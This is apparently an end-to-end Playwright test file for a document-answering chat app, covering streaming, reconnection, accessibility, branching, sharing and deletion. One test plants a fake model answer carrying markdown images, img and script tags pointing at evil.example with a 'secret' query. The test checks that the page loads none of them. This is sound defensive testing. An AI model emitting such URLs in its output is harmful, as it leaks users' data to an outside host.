import assert from 'node:assert/strict'
import { after, before, describe, test } from 'node:test'
import { contract } from '@brain-ai/contract'
import type { Client } from '@brain-ai/sdk'
import type { BrowserContext, Page } from 'playwright-core'
import { assertAccessible } from './accessibility.ts'
import { noBrowser, type Screen, startScreen, until } from './browser.ts'
import { addPerson, assertFine, clientOf, dialogOf, openAs, owner, ownerEnv, type Person } from './people.ts'
import { longAnswer, startSlowModel } from './slow-model.ts'

const leave = 'Everybody has thirty days of leave a year. Ten days of leave move into next year, until the end of March.'
const question = 'How many days of leave are there?'

/** The words of the answers on the page, as one reads them. */
const shownText = `Array.from(document.querySelectorAll('main article'), (article) => {
  const copy = article.cloneNode(true)
  for (const part of copy.querySelectorAll('a, .sr-only, [aria-hidden]')) part.remove()
  return copy.textContent.replace(/\\s+/g, ' ').trim()
}).at(-1) ?? ''`
const wordsOf = (text: string): string =>
  text
    .replace(/\s?\[\d+\]/g, '')
    .replace(/\s+/g, ' ')
    .trim()

describe('conversations in a browser', { skip: noBrowser }, () => {
  let model: Awaited<ReturnType<typeof startSlowModel>>
  let screen: Screen
  let asOwner: Client
  let grace: Person
  let page: Page
  let context: BrowserContext
  let faults: string[]
  before(async () => {
    model = await startSlowModel()
    screen = await startScreen({ ...ownerEnv, ...model.env })
    asOwner = await clientOf(screen, owner)
    grace = await addPerson(screen, asOwner, 'Grace')
    await asOwner.call(contract.documents.importDocuments, { body: { title: 'Leave of everybody', text: leave } })
    while ((await asOwner.call(contract.documents.listDocuments, { query: { state: 'ready' } })).total === 0)
      await new Promise((resolve) => setTimeout(resolve, 100))
    const opened = await openAs(screen, grace, '/')
    page = opened.page
    context = opened.context
    faults = opened.faults
    await page.getByRole('heading', { name: 'What do you want to know?' }).waitFor()
  })
  after(async () => {
    await screen?.close()
    await model?.stop()
  })

  const ask = async (on: Page, text: string) => {
    await on.getByRole('textbox', { name: 'Question' }).last().fill(text)
    await on.keyboard.press('Enter')
  }
  const stop = () => page.getByRole('button', { name: 'Stop' })
  const stored = async (): Promise<string> => {
    const id = new URL(page.url()).pathname.split('/').at(-1)!
    const { messages } = await (await clientOf(screen, grace)).call(contract.conversations.getConversation, { params: { id } })
    return messages.findLast(({ role }) => role === 'assistant')!.text
  }

  test('a question leads to a conversation of its own, whose answer can be followed while it is written', async () => {
    model.say({ text: longAnswer(100), pieceDelayMs: 60 })
    await ask(page, question)
    await page.getByRole('heading', { name: question, level: 2 }).waitFor()
    assert.match(page.url(), /\/conversations\/[\da-f-]{36}$/)
    await until(page, `(${shownText}).includes('Everybody has thirty days')`)
    await page
      .getByRole('link', { name: /^Source 1:/ })
      .first()
      .waitFor()
    assert.ok(await stop().isVisible())
    await assertAccessible(page, 'an answer that is being written')
  })

  test('another tab shows the same answer being written', async () => {
    const other = await context.newPage()
    await other.goto(page.url())
    await until(other, `(${shownText}).includes('point 9.')`).finally(() => other.close())
  })

  test('reloading in the middle goes on where the answer is', async () => {
    await page.reload()
    await until(page, `(${shownText}).includes('point 14.')`)
    assert.ok(await stop().isVisible())
  })

  test('a lost connection is told, and the answer goes on without a gap', async () => {
    await context.setOffline(true)
    await page
      .getByText('Reconnecting…')
      .waitFor()
      .finally(() => context.setOffline(false))
    await page.getByText('Reconnecting…').waitFor({ state: 'detached' })
    await stop().waitFor({ state: 'detached', timeout: 120_000 })
    const text = await stored()
    assert.match(text, /point 100 \[1\]\.$/)
    assert.equal(await page.evaluate<string>(shownText), wordsOf(text))
  })

  test('a screen reader hears each sentence once, as soon as it is whole', async () => {
    const said = await page.evaluate<string[]>(`Array.from(document.querySelectorAll('[role=log] p'), (one) => one.textContent)`)
    const points = said.flatMap((sentence) => /^Ten days of leave move into next year, point (\d+)\.$/.exec(sentence)?.[1] ?? [])
    assert.equal(new Set(points).size, points.length)
    assert.equal(points.at(-1), '100')
    assert.equal(said.at(-1), '1 source.')
  })

  test('Esc stops an answer, and what was written stays, with a way to ask again', async () => {
    model.say({ text: longAnswer(200), pieceDelayMs: 45 })
    await ask(page, 'And how many move on?')
    await until(page, `(${shownText}).includes('point 1.') && (${shownText}).length < 2000`)
    await page.keyboard.press('Escape')
    await page.getByRole('heading', { name: 'Stopped' }).waitFor()
    assert.equal(await page.evaluate<string>(shownText), wordsOf(await stored()))
    await assertAccessible(page, 'a stopped answer')
    model.say({ text: 'Ten days of leave move into next year [leave].' })
    await page.getByRole('button', { name: 'Ask again' }).first().click()
    await page.getByRole('group', { name: 'Versions of the answer' }).getByText('2 / 2').waitFor()
  })

  test('a model that breaks off leaves what it said and a sentence about it', async () => {
    model.say({ text: longAnswer(30), fault: 'cut' })
    await ask(page, 'What else is there?')
    await page.getByRole('heading', { name: 'The answer did not come about' }).waitFor()
    await assertAccessible(page, 'a failed answer')
  })

  test('an edited question begins another branch, and the first one is still there', async () => {
    model.say({ text: 'Everybody has thirty days of leave a year [leave].' })
    await page.getByRole('button', { name: 'Edit the question' }).first().click()
    const box = page.getByRole('textbox', { name: 'Question' }).first()
    await box.fill('How much leave does everybody have?')
    await page.keyboard.press('Enter')
    await page.getByRole('heading', { name: 'How much leave does everybody have?', level: 2 }).waitFor()
    const versions = page.getByRole('group', { name: 'Versions of the question' })
    await versions.getByText('2 / 2').waitFor()
    await page.getByRole('button', { name: 'Copy' }).first().waitFor()
    await versions.getByRole('button', { name: 'Earlier version' }).click()
    await versions.getByText('1 / 2').waitFor()
    await page.getByRole('heading', { name: question, level: 2 }).waitFor()
    await page.getByRole('heading', { name: 'What else is there?', level: 2 }).waitFor()
  })

  test('what no source bears out is marked, with the reason', async () => {
    model.say({ text: 'Everybody has thirty days of leave a year [leave]. The canteen serves borscht on Thursdays.' })
    await page.goto(`${screen.server.url}/ask?q=${encodeURIComponent('How many days, and what is for lunch?')}`)
    await page.getByText(/1 sentence is not borne out by the documents/).waitFor()
    await page.getByText('(This sentence names no source)').waitFor({ state: 'attached' })
    await assertAccessible(page, 'an answer with an unsupported sentence')
    await page.getByRole('button', { name: 'Why this answer' }).click()
    await page.getByRole('complementary').getByRole('heading', { name: 'Passages considered' }).waitFor()
    await page.getByText('Only those who may change agents see the text.').waitFor()
    await assertAccessible(page, 'why this answer')
    await page.getByRole('button', { name: 'With the passages of then' }).click()
    await page.getByText('The same answer, word for word').waitFor()
    await page.keyboard.press('Escape')
  })

  test('an address that asks has given way to its conversation, and going back does not ask again', async () => {
    const asked = page.url()
    assert.match(asked, /\/conversations\//)
    const me = await clientOf(screen, grace)
    const count = async () => (await me.call(contract.conversations.listConversations)).conversations.length
    const conversations = await count()
    await page.reload()
    await page.getByText(/1 sentence is not borne out/).waitFor()
    await page.goBack()
    await page.goForward()
    await page.getByText(/1 sentence is not borne out/).waitFor()
    assert.equal(await count(), conversations)
  })

  test('an answer with images, HTML and links to elsewhere loads nothing and says where a link leads', async () => {
    const evil = 'https://evil.example/x.png?d=secret'
    model.say({
      text: `Everybody has thirty days of leave a year [leave]. ![chart](${evil}) <img src="${evil}"> <script src="${evil}"></script> [the rules](https://evil.example/rules) [1]: ${evil}`,
    })
    await page.goto(`${screen.server.url}/ask?q=${encodeURIComponent('How many days of leave, once more?')}`)
    await page.getByRole('button', { name: 'Copy' }).waitFor()
    assert.equal(await page.evaluate<number>(`document.querySelectorAll('main img, main script, main iframe').length`), 0)
    for (const link of await page.locator('main article a[target=_blank]').all())
      assert.match((await link.textContent()) ?? '', /\(evil\.example\)$/)
    assert.deepEqual(
      faults.filter((fault) => !/ERR_INTERNET_DISCONNECTED|Failed to load resource/.test(fault)),
      [],
    )
  })

  test('what the documents do not say is said plainly, with what comes nearest', async () => {
    model.say({ text: 'NOT_IN_DOCUMENTS' })
    await page.goto(`${screen.server.url}/ask?q=${encodeURIComponent('Which leave has the mayor of Ouagadougou?')}`)
    await page.getByRole('heading', { name: 'Your documents do not say' }).waitFor()
    await assertAccessible(page, 'not in the documents')
  })

  test('a conversation is renamed in its place, archived with a way back, and found by its words', async () => {
    await page.goto(`${screen.server.url}/conversations`)
    await page.getByRole('button', { name: `Actions for ${question}` }).click()
    await page.getByRole('menuitem', { name: 'Rename' }).click()
    await page.getByRole('textbox', { name: 'Title of the conversation' }).fill('Days of leave')
    await page.keyboard.press('Enter')
    await page.getByRole('main').getByRole('link', { name: 'Days of leave', exact: true }).waitFor()
    await page.getByRole('button', { name: 'Actions for Days of leave' }).click()
    await page.getByRole('menuitem', { name: 'Archive' }).click()
    await page.getByRole('main').getByRole('link', { name: 'Days of leave', exact: true }).waitFor({ state: 'detached' })
    await page.getByRole('button', { name: 'Undo' }).click()
    await page.getByRole('main').getByRole('link', { name: 'Days of leave', exact: true }).waitFor()
    await page.getByRole('searchbox').fill('mayor')
    await page.getByRole('main').getByRole('link', { name: /mayor/ }).waitFor()
    await page.getByRole('main').getByRole('link', { name: 'Days of leave', exact: true }).waitFor({ state: 'detached' })
    await assertFine(screen, '/conversations', context)
  })

  test('shared, it can be read by another member, not continued; unshared it is gone for them', async () => {
    await page.goto(`${screen.server.url}/conversations`)
    await page.getByRole('main').getByRole('link', { name: 'Days of leave', exact: true }).click()
    await page.getByRole('heading', { name: 'Days of leave', level: 1 }).waitFor()
    const theirs = await openAs(screen, owner, new URL(page.url()).pathname)
    await theirs.page.getByRole('heading', { name: 'There is no such conversation' }).waitFor()
    await assertAccessible(theirs.page, 'a conversation that is not shared')
    await page.getByRole('button', { name: 'Actions for Days of leave' }).click()
    await page.getByRole('menuitem', { name: 'Share' }).click()
    const dialog = dialogOf(page)
    await dialog.getByRole('checkbox').check()
    await dialog.getByRole('textbox', { name: 'Link' }).waitFor()
    await assertAccessible(page, 'sharing')
    await page.keyboard.press('Escape')
    await theirs.page.reload()
    await theirs.page.getByText('Grace shares this conversation with the workspace').waitFor()
    assert.equal(await theirs.page.getByRole('textbox', { name: 'Question' }).count(), 0)
    assert.equal(await theirs.page.getByRole('button', { name: 'Edit the question' }).count(), 0)
    await assertAccessible(theirs.page, 'a shared conversation')
    await theirs.context.close()
    await assertFine(screen, new URL(page.url()).pathname, context)
  })

  test('a question that cannot be sent stays beside the reason, and goes when it is tried again', async () => {
    const asked = page.getByRole('heading', { name: 'What was asked in a tunnel?' })
    await context.setOffline(true)
    await ask(page, 'What was asked in a tunnel?')
    await page.getByRole('alert').getByText('The server does not answer').waitFor()
    await asked.waitFor()
    await context.setOffline(false)
    await page.getByRole('button', { name: 'Try again' }).click()
    await page.getByRole('alert').waitFor({ state: 'detached' })
    await asked.waitFor()
  })

  test('deleting asks first, and then it is gone', async () => {
    await page.getByRole('button', { name: 'Actions for Days of leave' }).click()
    await page.getByRole('menuitem', { name: 'Delete' }).click()
    const dialog = dialogOf(page)
    await dialog.getByText('This cannot be taken back').waitFor()
    await dialog.getByRole('button', { name: 'Delete' }).click()
    await page.getByRole('heading', { name: 'Conversations', level: 1 }).waitFor()
    // It stands in the list and beside it, until both know.
    await page.getByRole('link', { name: 'Days of leave', exact: true }).first().waitFor({ state: 'detached' })
  })

  test('an address of nothing says so', async () => {
    await page.goto(`${screen.server.url}/conversations/018f3a52-7e0c-7cc4-9d3a-3f0d9a1b2c3d`)
    await page.getByRole('heading', { name: 'There is no such conversation' }).waitFor()
  })
})
